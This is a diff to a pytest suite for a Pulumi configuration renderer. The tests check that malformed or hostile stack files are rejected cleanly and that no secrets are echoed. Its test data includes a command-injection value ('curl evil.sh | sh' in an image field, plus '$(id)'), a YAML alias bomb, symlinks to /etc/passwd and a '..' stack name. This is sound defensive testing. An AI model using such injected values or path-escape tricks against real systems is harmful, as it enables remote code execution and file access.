@@ -62,7 +62,8 @@ CASES = [
     ("target-qps-zero", mutate(**{SVC + "/autoscaling/targetQpsPerReplica": 0}), "services.bert.autoscaling.targetQpsPerReplica"),
     ("target-qps-text", mutate(**{SVC + "/autoscaling/targetQpsPerReplica": "ten"}), "services.bert.autoscaling.targetQpsPerReplica"),
     ("service-name-invalid", mutate(**{P + "services/Bert!": DEV[P + "services"]["bert"]}), "services.Bert!"),
-    ("service-name-too-long", mutate(**{P + "services/" + "b" * 80: DEV[P + "services"]["bert"]}), "services." + "b" * 80),
+    # A long opaque key may be a pasted token: named, but not shown.
+    ("service-name-too-long", mutate(**{P + "services/" + "b" * 80: DEV[P + "services"]["bert"]}), "services.<a key not shown>"),
     ("image-shell-semicolon", mutate(**{SVC + "/image": "tensorflow/serving:2.14.1; curl evil.sh | sh"}), "services.bert.image"),
     ("image-command-substitution", mutate(**{SVC + "/image": "tensorflow/serving:$(id)"}), "services.bert.image"),
     ("image-newline", mutate(**{SVC + "/image": "tensorflow/serving:2.14.1\nrm"}), "services.bert.image"),
@@ -127,7 +128,7 @@ def test_two_services_with_one_name_in_two_namespaces(tmp_path, program, capsys)
     service = yaml.safe_dump({"bert": {**DEV[P + "services"]["bert"], "namespace": "other"}}, default_flow_style=False)
     text = text.replace("  elastic-inference:services:\n", "  elastic-inference:services:\n" + "".join("    " + line + "\n" for line in service.splitlines()))
     code, printed, out = rejected(tmp_path, program, capsys, text)
-    assert code == 2 and "duplicate key 'bert'" in printed and not out.exists()
+    assert code == 2 and "duplicate key" in printed and not out.exists()
 
 
 # -- secrets never leak ------------------------------------------------------------------------
@@ -175,3 +176,135 @@ def test_diff_never_shows_planted_secrets(tmp_path, program, capsys):
     diffs = diff_plans(load_plans(str(renders["one"])), load_plans(str(renders["two"])))
     text = to_markdown(diffs) + repr(to_json(diffs))
     assert "kubernetes:kubeconfig" in text and PLANTED not in text
+
+
+# -- issue "Hardening": stack files that used to crash the render or echo what they hold ------------------
+
+BASE_TEXT = open(os.path.join(ROOT, "Pulumi.dev.yaml")).read()
+SECRETISH = "LTAI5tPLANTEDSECRET7f3c9a"
+
+
+def _text(old, new):
+    assert old in BASE_TEXT
+    return BASE_TEXT.replace(old, new)
+
+
+RAW = [
+    # (id, stack file bytes, what the one-line error must say)
+    ("not-utf-8", b"config:\n  alicloud:region: \xff\xfe\n", "not UTF-8 text"),
+    ("section-as-text", _text("  elastic-inference:modelStore:\n    bucket: acme-models-dev",
+                              f"  elastic-inference:modelStore: {SECRETISH}\n  x:\n    bucket: acme-models-dev").encode(),
+     "modelStore: must be a mapping"),
+    ("section-as-list", _text("  elastic-inference:cluster:\n", f"  elastic-inference:cluster: [{SECRETISH}]\n  z:\n").encode(),
+     "cluster: must be a mapping"),
+    ("nested-too-deep", ("config:\n  elastic-inference:cluster: " + "[" * 5000 + "]" * 5000 + "\n").encode(), "nested too deeply"),
+    ("non-text-key", _text("    bucket: acme-models-dev", "    1: x\n    bucket: acme-models-dev").encode(), "a key is not text"),
+    ("yaml-date", _text("    bucket: acme-models-dev", "    bucket: 2024-01-01").encode(), "a YAML date"),
+    ("yaml-binary", _text("    bucket: acme-models-dev", "    bucket: !!binary aGVsbG8=").encode(), "!!binary"),
+    ("yaml-inf", _text("targetQpsPerReplica: 10", "targetQpsPerReplica: .inf").encode(), ".inf and .nan"),
+    ("alias-bomb", ("config:\n  elastic-inference:services:\n    a: &a [x,x,x,x,x,x,x,x,x,x]\n"
+                    + "".join(f"    {n}: &{n} [{', '.join(['*' + p] * 10)}]\n" for p, n in zip("abcdefgh", "bcdefghi"))).encode(),
+     "expands to more than"),
+    ("secret-in-host", _text("bert.dev.example.com", SECRETISH.lower() + ".example.com:1").encode(), "services.bert.ingress.host"),
+    ("secret-in-image", _text("tensorflow/serving:2.14.1", SECRETISH + " x").encode(), "services.bert.image"),
+    ("secret-as-a-key", _text("    bucket: acme-models-dev", f"    bucket: acme-models-dev\n    {SECRETISH}: 1").encode(),
+     "modelStore.<a key not shown>"),
+    ("secret-in-tls", _text("        path: /", f"        path: /\n        tlsSecret: '{SECRETISH} x'").encode(), "tlsSecret"),
+    ("namespace-typo", _text("  alicloud:region: cn-beijing", "  alicloud:region: cn-beijing\n  elastic-inferance:services: x").encode(),
+     "did you mean 'elastic-inference:'"),
+    ("provider-key-typo", _text("alicloud:region", "alicloud:regoin").encode(), "did you mean 'alicloud:region'"),
+    ("dedented-ingress", _text("      ingress:\n        host", "    ingress:\n        host").encode(), "indented one level too little"),
+]
+
+
+@pytest.mark.parametrize("content, message", [c[1:] for c in RAW], ids=[c[0] for c in RAW])
+def test_hostile_stack_file_exits_2_without_traceback_or_echo(tmp_path, program, capsys, content, message):
+    (program / "Pulumi.hostile.yaml").write_bytes(content)
+    out = tmp_path / "out"
+    code = main(["hostile", "--out", str(out), "--dir", str(program)])
+    printed = "".join(capsys.readouterr())
+    assert code == 2 and message in printed, printed
+    assert "Traceback" not in printed and "PLANTED" not in printed.upper()
+    assert not out.exists()
+
+
+def test_a_directory_named_like_a_stack_file_and_a_bad_stack_do_not_stop_all(tmp_path, program, capsys):
+    (program / "Pulumi.dir.yaml").mkdir()
+    (program / "Pulumi.bad.yaml").write_bytes(b"config: [\n")
+    (program / "Pulumi.dev.yaml").write_text(BASE_TEXT)
+    code = main(["--all", "--out", str(tmp_path / "out"), "--dir", str(program)])
+    printed = "".join(capsys.readouterr())
+    assert code == 2 and "is a directory" in printed and "not valid YAML" in printed and "Traceback" not in printed
+    assert (tmp_path / "out" / "dev" / "plan.json").exists()
+
+
+@pytest.mark.parametrize("name", ["..", ".", "a/b", "x" * 101, "sp ace"])
+def test_stack_names_follow_pulumis_rules(tmp_path, program, capsys, name):
+    assert main([name, "--out", str(tmp_path / "out"), "--dir", str(program)]) == 2
+    assert "stack name" in capsys.readouterr().err
+
+
+def test_a_stack_file_named_dotdot_never_removes_the_checkout(tmp_path, program, capsys):
+    (program / "Pulumi.dev.yaml").write_text(BASE_TEXT)
+    (program / "Pulumi....yaml").write_text(BASE_TEXT)  # stack ".."
+    out = tmp_path / "build"
+    keep = tmp_path / "precious.txt"
+    keep.write_text("the checkout")
+    code = main(["--all", "--out", str(out), "--dir", str(program)])
+    assert code == 2 and keep.exists() and (out / "dev" / "plan.json").exists()
+
+
+def test_the_render_never_replaces_a_directory_it_did_not_write(tmp_path, program, capsys):
+    (program / "Pulumi.dev.yaml").write_text(BASE_TEXT)
+    mine = tmp_path / "mine"
+    mine.mkdir()
+    (mine / "notes.txt").write_text("keep me")
+    assert main(["dev", "--out", str(mine), "--dir", str(program)]) == 2
+    assert "is not a render output" in capsys.readouterr().err and (mine / "notes.txt").read_text() == "keep me"
+    out = tmp_path / "out"
+    assert main(["dev", "--out", str(out), "--dir", str(program)]) == 0
+    assert (out / ".elastic-inference-render").exists()
+    assert main(["dev", "--out", str(out), "--dir", str(program)]) == 0  # its own output: replaced
+
+
+def _upload_case(program, kind):
+    models = program / "models"
+    models.mkdir()
+    (models / "ok.pb").write_bytes(b"pb")
+    if kind == "link-outside":
+        (models / "passwd").symlink_to("/etc/passwd")
+    elif kind == "dangling":
+        (models / "gone").symlink_to(models / "nowhere")
+    elif kind == "loop":
+        (models / "loop").symlink_to(models / "loop")
+    elif kind == "fifo":
+        os.mkfifo(models / "pipe")
+    elif kind == "device-link":
+        (models / "zero").symlink_to("/dev/zero")
+    elif kind == "dir-link":
+        (models / "etc").symlink_to("/etc")
+
+
+@pytest.mark.parametrize("kind", ["link-outside", "dangling", "loop", "fifo", "device-link", "dir-link"])
+def test_upload_dir_uploads_regular_files_only(tmp_path, capsys, kind):
+    program = link_program(tmp_path / "program")
+    _upload_case(program, kind)
+    (program / "Pulumi.up.yaml").write_text(yaml.safe_dump({"config": mutate(**{P + "modelStore/uploadDir": "models"})}))
+    code = main(["up", "--out", str(tmp_path / "out"), "--dir", str(program)])
+    printed = "".join(capsys.readouterr())
+    assert code == 2 and "modelStore.uploadDir: only regular files are uploaded" in printed, printed
+    assert "Traceback" not in printed and not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize("edits, key", [
+    ({P + "modelStore/uploadDir": "."}, "modelStore.uploadDir"),
+    ({P + "modelStore/create": False, P + "modelStore/uploadDir": "models"}, "modelStore.uploadDir"),
+    ({P + "modelStore/create": False, P + "modelStore/versioning": True}, "modelStore.versioning"),
+    ({P + "modelStore/create": False, P + "modelStore/protect": False}, "modelStore.protect"),
+])
+def test_what_an_adopted_bucket_or_the_project_root_would_silently_get_is_refused(tmp_path, capsys, edits, key):
+    program = link_program(tmp_path / "program")
+    (program / "models").mkdir()
+    (program / "Pulumi.up.yaml").write_text(yaml.safe_dump({"config": mutate(**edits)}))
+    assert main(["up", "--out", str(tmp_path / "out"), "--dir", str(program)]) == 2
+    assert any(line.startswith(key + ":") for line in capsys.readouterr().err.splitlines())
